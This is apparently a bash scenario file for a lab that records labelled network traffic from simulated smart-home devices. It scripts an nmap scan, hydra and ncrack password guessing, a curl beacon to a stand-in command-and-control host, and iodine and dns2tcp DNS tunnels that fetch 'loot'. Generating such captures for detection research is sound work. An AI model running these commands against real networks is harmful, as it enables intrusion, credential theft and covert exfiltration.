# shellcheck shell=bash
# Wider recordings, made when named and not kept in the repository: slow, long or rare.

scenario slow-scan wider pcapng scan 'attack: slow nmap SYN scan, 60 ports of the NAS, one probe in five seconds'
slow-scan() {
    local probe="tcp[tcpflags] & (tcp-syn|tcp-ack) = tcp-syn and src ${IP[plug]} and dst ${IP[nas]}"
    background "${QUIET[@]}" hub cam
    capture_start
    at 20
    ATTACK_LIMIT=600 attack scan plug nas tcp/* "$probe" -- \
        nmap -n -Pn -sS --top-ports 60 --scan-delay 5s --max-scan-delay 5s --max-retries 0 "${IP[nas]}"
    pause 10
    capture_stop
    packets 60 "$probe"
    logged 3 '^(21|22|80)/tcp +open' tool
}

telnet_server() {
    serve bulb telnetd socat TCP-LISTEN:23,fork,reuseaddr EXEC:/usr/sbin/telnetd,nofork
    wait_for "telnetd of the bulb" answers ops "${IP[bulb]}" 23
}

# hydra answers telnetd's options only half and waits 32 s before each connection's first guess; it also misses
# the shell behind a right password, so it gets wrong ones only.
scenario telnet-guess-hydra wider pcapng brute-force 'attack: Telnet passwords of the bulb guessed by hydra, none right'
telnet-guess-hydra() {
    background "${HOME_LIFE[@]}" speaker
    telnet_server
    ATTACK_LIMIT=240 guess speaker bulb tcp/23 23 \
        hydra -I -V -t 4 -l operator -P "$WORK/secret/wrong" "telnet://${IP[bulb]}"
    packets 5 "$(syns speaker bulb 23)"
    shows 20 'Login incorrect' "$(between speaker bulb 23)"
}

scenario telnet-guess-ncrack wider pcap brute-force 'attack: Telnet passwords of the bulb guessed by ncrack, the 25th is right'
telnet-guess-ncrack() {
    background "${HOME_LIFE[@]}" speaker
    telnet_server
    guess speaker bulb tcp/23 23 ncrack -v --user operator -P "$WORK/secret/guesses" "telnet://${IP[bulb]}"
    packets 5 "$(syns speaker bulb 23)"
    shows 20 'Login incorrect' "$(between speaker bulb 23)"
    logged 1 "telnet: 'operator'" tool
}

scenario mqtt-guess wider nsecpcap brute-force 'attack: MQTT passwords of the broker guessed by ncrack, none right'
mqtt-guess() {
    background "${HOME_LIFE[@]}" speaker
    guess speaker nas tcp/1883 1883 ncrack -v -T4 --user device -P "$WORK/secret/wrong" "mqtt://${IP[nas]},CL=2,cd=400ms"
    packets 20 "$(syns speaker nas 1883)"
    logged 20 'not authori[sz]ed' mosquitto
}

scenario beacon wider pcapng beacon 'attack: the plug calls one Internet host every five seconds, jitter 10 %, for four minutes'
beacon() {
    background "${QUIET[@]}" hub cam
    command_and_control
    capture_start
    at 20
    attack_for 240 beacon plug out tcp/8080 "$(between plug out 8080)" bash <<'BOT'
while true; do
    curl -s -m 4 -A Mozilla/4.0 -o /dev/null "http://203.0.113.66:8080/status?id=52c7bf5a1027"
    sleep "$(awk -v seed="$RANDOM" 'BEGIN { srand(seed); print 4.5 + rand() }')"
done
BOT
    pause 10
    capture_stop
    packets 40 "$(syns plug out 8080)"
}

# The attacker's own web server: a small answer to every call, and a place to send things to.
command_and_control() {
    mkdir -p "$WORK/www/out"
    echo sleep >"$WORK/www/out/status"
    serve out httpd-out busybox httpd -f -p 8080 -h "$WORK/www/out"
    wait_for "the attacker's web server" answers cloud "${IP[out]}" 8080
}

# attack_for SECONDS CATEGORY …: as attack, for a program without an end of its own, read from standard input.
attack_for() {
    local limit=$1 program
    shift
    program=$(cat)
    ATTACK_LIMIT=$limit attack "${@:1:5}" -- "${@:6}" -c "$program"
}

# The packets of a tunnel through the home's own resolver.
through_resolver() {
    echo "udp port 53 and host ${IP[pi]} and host 192.168.77.1"
}

scenario iodine wider pcapng tunnel,exfiltration 'attack: iodine tunnel through the home resolver, pings and 20 small fetches'
iodine() {
    background "${QUIET[@]}" hub pi
    openssl rand -hex 8 >"$WORK/secret/tunnel"
    serve out iodined iodined -f -c -P "$(<"$WORK/secret/tunnel")" 10.99.0.1/27 t.tunnel.example
    serve_from_tunnel
    capture_start
    at 20
    attack_for 150 tunnel pi out udp/53 "$(through_resolver)" bash <<'BOT'
iodine -f -r -P "$(<"$WORK/secret/tunnel")" 192.168.77.1 t.tunnel.example &
tunnel=$!
until ip -4 -o addr show | grep -q 10.99.0.; do sleep 0.5; done
ping -q -c 5 10.99.0.1
for _ in {1..20}; do
    curl -s -m 20 -o /dev/null -w 'fetched %{size_download} bytes\n' http://10.99.0.1:8080/loot
    sleep 3
done
kill "$tunnel"
BOT
    pause 10
    capture_stop
    packets 300 "$(through_resolver)"
    logged 1 ' 0% packet loss|[1-5] received' tool
    logged 15 'fetched 6000 bytes' tool
}

serve_from_tunnel() {
    command_and_control
    head -c 6000 /dev/urandom >"$WORK/www/out/loot"
}

scenario dns2tcp wider pcapng tunnel,exfiltration 'attack: dns2tcp tunnel through the home resolver, 20 small fetches'
dns2tcp() {
    background "${QUIET[@]}" hub pi
    mkdir -p "$WORK/empty"
    printf 'listen = %s\nport = 53\nuser = nobody\nchroot = %s\ndomain = d.tunnel.example\nresources = web:127.0.0.1:8080\n' \
        "${IP[out]}" "$WORK/empty" >"$WORK/dns2tcpd.conf"
    serve out dns2tcpd dns2tcpd -F -f "$WORK/dns2tcpd.conf"
    serve_from_tunnel
    capture_start
    at 20
    attack_for 150 tunnel pi out udp/53 "$(through_resolver)" bash <<'BOT'
dns2tcpc -z d.tunnel.example -r web -l 8888 -f /dev/null 192.168.77.1 &
tunnel=$!
sleep 3
for _ in {1..20}; do
    curl -s -m 20 -o /dev/null -w 'fetched %{size_download} bytes\n' http://127.0.0.1:8888/loot
    sleep 3
done
kill "$tunnel"
BOT
    pause 10
    capture_stop
    packets 300 "$(through_resolver)"
    logged 15 'fetched 6000 bytes' tool
}

scenario life wider pcapng benign 'benign: nine devices and an operator, half an hour unless --seconds says otherwise'
life() {
    capture_start
    start_devices ops
    STAGGER=1 start_devices "${EVERYONE[@]}"
    at "$SECONDS_OF_LIFE"
    capture_stop
    packets 9 'udp dst port 67 and src 0.0.0.0'
    packets 10 "tcp port 1883 and src ${IP[sensor]}"
}
